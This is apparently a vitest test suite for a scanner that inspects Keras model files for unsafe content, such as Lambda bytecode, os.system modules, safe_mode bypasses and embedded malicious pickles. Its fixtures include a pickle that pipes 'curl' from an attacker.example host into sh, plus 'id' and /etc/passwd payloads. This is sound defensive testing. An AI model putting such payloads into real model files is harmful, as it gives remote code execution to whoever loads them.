import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BufferSource, DEFAULT_LIMITS } from '../../limits/index.js';
import { BENIGN_LAYERS, functionalConfig, hdf5File, kerasLayer, kerasZip, lambdaLayer, zipFile } from '../../../test-fixtures/keras-builder.js';
import { ruleIds, scanHarness } from '../../../test-fixtures/safetensors-builder.js';
import { findingsOf, memberOf, mustScan } from '../../../test-fixtures/model-scan-helpers.js';
import { pickle, tuple } from '../../../test-fixtures/pickle-builder.js';
import type { Finding } from '../../findings/index.js';
import { isKerasH5, isKerasZip, readRootAttributes, scanKeras, scanKerasArchive, scanKerasH5 } from './index.js';

const REAL = new URL('../../../test-fixtures/real/', import.meta.url);

function scanZipBytes(bytes: Uint8Array) {
  const h = scanHarness('model.keras');
  const summary = scanKeras(new BufferSource(bytes), h.ctx);
  return { ...h, summary, ids: ruleIds(h.findings) };
}

function scanH5(bytes: Uint8Array) {
  const h = scanHarness('model.h5');
  const summary = scanKerasH5(new BufferSource(bytes), h.ctx);
  return { ...h, summary, ids: ruleIds(h.findings) };
}

describe('Keras sniffers', () => {
  it('recognise .keras zips by their members and HDF5 by its signature', () => {
    expect(isKerasZip(new BufferSource(readFileSync(new URL('tiny.keras', REAL))))).toBe(true);
    expect(isKerasZip(new BufferSource(kerasZip(functionalConfig(BENIGN_LAYERS))))).toBe(true);
    expect(isKerasZip(new BufferSource(zipFile([{ name: 'config.json', data: '{}' }])))).toBe(false);
    expect(isKerasZip(new BufferSource(new TextEncoder().encode('PK not a zip')))).toBe(false);
    expect(isKerasH5(new BufferSource(readFileSync(new URL('tiny.h5', REAL))))).toBe(true);
    expect(isKerasH5(new BufferSource(readFileSync(new URL('tiny.keras', REAL))))).toBe(false);
  });
});

describe('Keras v3 archives', () => {
  it('pass the real .keras written by Keras 3.15 clean', () => {
    const r = scanZipBytes(readFileSync(new URL('tiny.keras', REAL)));
    expect(r.findings).toEqual([]);
    expect(r.summary?.kerasVersion).toBe('3.15.1');
    expect(r.summary?.config?.layers).toBe(4);
  });

  it('report Lambda layers (marshalled bytecode), also in nested models, with the member as location', () => {
    const nested = functionalConfig([...BENIGN_LAYERS, functionalConfig([lambdaLayer('inner')])]);
    const r = scanZipBytes(kerasZip(nested));
    expect(r.ids).toEqual(['keras/lambda-layer']);
    expect(r.findings[0]?.message).toContain('marshalled Python bytecode');
    expect(r.findings[0]?.message).toContain('"inner"');
    expect(r.findings[0]?.location).toMatchObject({ kind: 'archive-member', member: 'config.json' });
  });

  it('report Keras 2 style marshalled functions and __lambda__ arguments', () => {
    const k2 = { class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { name: 'l', function: ['4wEAAAAA', null, null], function_type: 'lambda' } }] } };
    expect(scanZipBytes(kerasZip(k2)).ids).toEqual(['keras/lambda-layer']);
    const arg = functionalConfig([kerasLayer('Dense', { units: 2, activation: { class_name: '__lambda__', config: { code: 'AAAA' } } })]);
    expect(scanZipBytes(kerasZip(arg)).ids).toEqual(['keras/lambda-layer']);
  });

  it('never lowers the severity because of the archive\u2019s keras_version', () => {
    const r = scanZipBytes(kerasZip(functionalConfig([lambdaLayer()]), { metadata: { keras_version: '99.0.0' } }));
    expect(r.findings[0]?.severity).toBe('critical');
  });

  it('report modules outside Keras, critical for dangerous ones', () => {
    const cfg = functionalConfig([
      { module: 'os', class_name: 'system', config: 'id', registered_name: null },
      { module: 'my_company.layers', class_name: 'Custom', config: { name: 'c' }, registered_name: 'my_company>Custom' },
    ]);
    const r = scanZipBytes(kerasZip(cfg));
    expect(r.ids).toEqual(['keras/unsafe-module']);
    expect(r.findings.map((f) => [f.evidence, f.severity])).toEqual([
      ['os.system', 'critical'],
      ['my_company.layers.Custom', 'high'],
    ]);
  });

  it('report known safe_mode bypasses', () => {
    const cfg = functionalConfig([
      kerasLayer('TFSMLayer', { filepath: '/tmp/other_model' }),
      kerasLayer('Dense', { units: 1, kernel_initializer: { module: 'keras.utils', class_name: 'function', config: 'get_file', registered_name: 'function' } }),
      kerasLayer('StringLookup', { vocabulary: '/etc/passwd' }),
    ]);
    const r = scanZipBytes(kerasZip(cfg));
    expect(r.ids).toEqual(['keras/safe-mode-bypass']);
    expect(r.findings.map((f) => f.evidence)).toEqual(['TFSMLayer', 'get_file', 'StringLookup:/etc/passwd']);
  });

  it('report custom objects as medium', () => {
    const cfg = functionalConfig([{ class_name: 'MyLayer', config: { name: 'm', trainable: true }, registered_name: 'MyPackage>MyLayer' }]);
    const r = scanZipBytes(kerasZip(cfg));
    expect(r.ids).toEqual(['keras/custom-object']);
    expect(r.findings[0]?.severity).toBe('medium');
  });

  it('report malformed or missing configs and duplicate members', () => {
    expect(scanZipBytes(kerasZip('{"a": ', {})).ids).toEqual(['keras/malformed-config']);
    expect(scanZipBytes(kerasZip('{"a": 1, "a": 2}')).ids).toEqual(['keras/malformed-config']);
    expect(scanZipBytes(kerasZip({}, { omitConfig: true })).ids).toEqual(['keras/malformed-config']);
    // Two config.json: Python's zipfile (Keras) reads the last one, which hides a Lambda.
    const two = kerasZip(functionalConfig(BENIGN_LAYERS), { extra: [{ name: 'config.json', data: JSON.stringify(functionalConfig([lambdaLayer()])) }] });
    expect(scanZipBytes(two).ids).toEqual(['keras/lambda-layer', 'keras/malformed-config']);
  });

  it('works against the small archive interface (no zip needed)', () => {
    const files: Record<string, string> = { 'config.json': JSON.stringify(functionalConfig([lambdaLayer()])), 'metadata.json': '{}' };
    const h = scanHarness('m.keras');
    scanKerasArchive({ names: Object.keys(files), read: (n) => (files[n] === undefined ? undefined : new TextEncoder().encode(files[n])) }, h.ctx);
    expect(ruleIds(h.findings)).toEqual(['keras/lambda-layer']);
  });

  it('bound JSON depth', () => {
    const deep = '['.repeat(400) + ']'.repeat(400);
    const r = scanZipBytes(kerasZip(deep));
    expect(r.ids).toEqual(['scan/limit-exceeded']);
    expect(r.state.partial).toBe(true);
  });
});

describe('legacy HDF5 files', () => {
  it('read the root attributes of the real .h5 written by Keras 3.15 / h5py', () => {
    const attrs = readRootAttributes(new BufferSource(readFileSync(new URL('tiny.h5', REAL))), { ...DEFAULT_LIMITS, maxTextBytes: 1 << 20 });
    expect(attrs.attributes.map((a) => a.name).sort()).toEqual(['backend', 'keras_version', 'model_config']);
    expect(JSON.parse(attrs.attributes.find((a) => a.name === 'model_config')?.value ?? 'null').class_name).toBe('Functional');
    const r = scanH5(readFileSync(new URL('tiny.h5', REAL)));
    expect(r.findings).toEqual([]);
    expect(r.summary?.kerasVersion).toBe('3.15.1');
  });

  it.each([
    ['fixed-length strings', {}, false],
    ['variable-length strings in a global heap', {}, true],
    ['attributes behind a continuation message', { continuation: true }, true],
    ['a 512-byte user block', { userblock: 512 }, true],
  ])('report a Lambda in model_config stored as %s', (_n, opts, vlen) => {
    const bytes = hdf5File(
      [
        { name: 'keras_version', value: '2.15.0' },
        { name: 'model_config', value: JSON.stringify(functionalConfig([lambdaLayer()])), vlen },
      ],
      opts,
    );
    const r = scanH5(bytes);
    expect(r.ids).toEqual(['keras/lambda-layer']);
    expect(r.summary?.kerasVersion).toBe('2.15.0');
  });

  it('check training_config too, and pass a weights-only file', () => {
    const bytes = hdf5File([{ name: 'training_config', value: JSON.stringify({ loss: { module: 'builtins', class_name: 'function', config: 'eval' } }) }]);
    expect(scanH5(bytes).ids).toEqual(['keras/unsafe-module']);
    expect(scanH5(hdf5File([{ name: 'layer_names', value: 'dense' }])).findings).toEqual([]);
  });

  it('report broken HDF5 as partial, never throw (property)', () => {
    const base = hdf5File([{ name: 'model_config', value: JSON.stringify(functionalConfig([lambdaLayer()])), vlen: true }], { continuation: true });
    const truncated = scanH5(base.subarray(0, 150));
    expect(truncated.state.partial).toBe(true);
    fc.assert(
      fc.property(fc.nat(base.length - 1), fc.integer({ min: 0, max: 255 }), fc.uint8Array({ maxLength: 200 }), (at, byte, junk) => {
        const b = base.slice();
        b[at] = byte;
        scanH5(b);
        const j = new Uint8Array(8 + junk.length);
        j.set([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a]);
        j.set(junk, 8);
        scanH5(j);
        scanZipBytes(junk);
      }),
      { numRuns: 500 },
    );
  });

  it('name maxHdf5Continuations and maxHdf5Messages when a header exceeds them', () => {
    const bytes = hdf5File([{ name: 'model_config', value: JSON.stringify(functionalConfig([lambdaLayer()])), vlen: true }], { continuation: true });
    const h = scanHarness('model.h5', { maxHdf5Continuations: 0 } as never);
    scanKerasH5(new BufferSource(bytes), h.ctx);
    expect(h.findings.map((f) => [f.ruleId, f.evidence])).toEqual([['scan/limit-exceeded', 'maxHdf5Continuations']]);
    expect(h.state.partial).toBe(true);
    const m = scanHarness('model.h5', { maxHdf5Messages: 1 });
    scanKerasH5(new BufferSource(hdf5File([{ name: 'keras_version', value: '3' }, { name: 'model_config', value: '{}' }])), m.ctx);
    expect(m.findings.map((f) => [f.ruleId, f.evidence])).toEqual([['scan/limit-exceeded', 'maxHdf5Messages']]);
  });
});

describe('serialized objects inside Keras configs', () => {
  const evilPickle = pickle((b) => b.proto(2).global('os', 'system').value(tuple('curl -s http://attacker.example/x | sh')).reduce().stop());
  it("TorchModuleWrapper's base64 module (torch.load on model load) is scanned", () => {
    const layer = kerasLayer('TorchModuleWrapper', { name: 'torch_module', module: Buffer.from(evilPickle).toString('base64') }, { module: 'keras.src.utils.torch_utils' });
    const r = mustScan(kerasZip(functionalConfig([...BENIGN_LAYERS, layer])));
    const calls = findingsOf(r, 'pickle/dangerous-call');
    expect(calls.map((f) => f.severity)).toEqual(['critical']);
    expect(memberOf(calls[0] as Finding)).toContain('TorchModuleWrapper module');
  });
  it('__bytes__ values and other base64 strings that decode to a model format are scanned; ordinary strings are not', () => {
    const bytesObj = { class_name: '__bytes__', config: { value: "cos\nsystem\n(S'id'\ntR." } };
    const r = mustScan(kerasZip(functionalConfig([...BENIGN_LAYERS, kerasLayer('Dense', { name: 'd2', units: 2, note: bytesObj, blob: Buffer.from(evilPickle).toString('base64') })])));
    expect(findingsOf(r, 'pickle/dangerous-call').length).toBe(2);
    const clean = mustScan(kerasZip(functionalConfig([...BENIGN_LAYERS, kerasLayer('Dense', { name: 'AbCdEfGh0123456789abcdefXYZ', units: 2 })])));
    expect(findingsOf(clean, 'pickle/dangerous-call')).toEqual([]);
  });
});
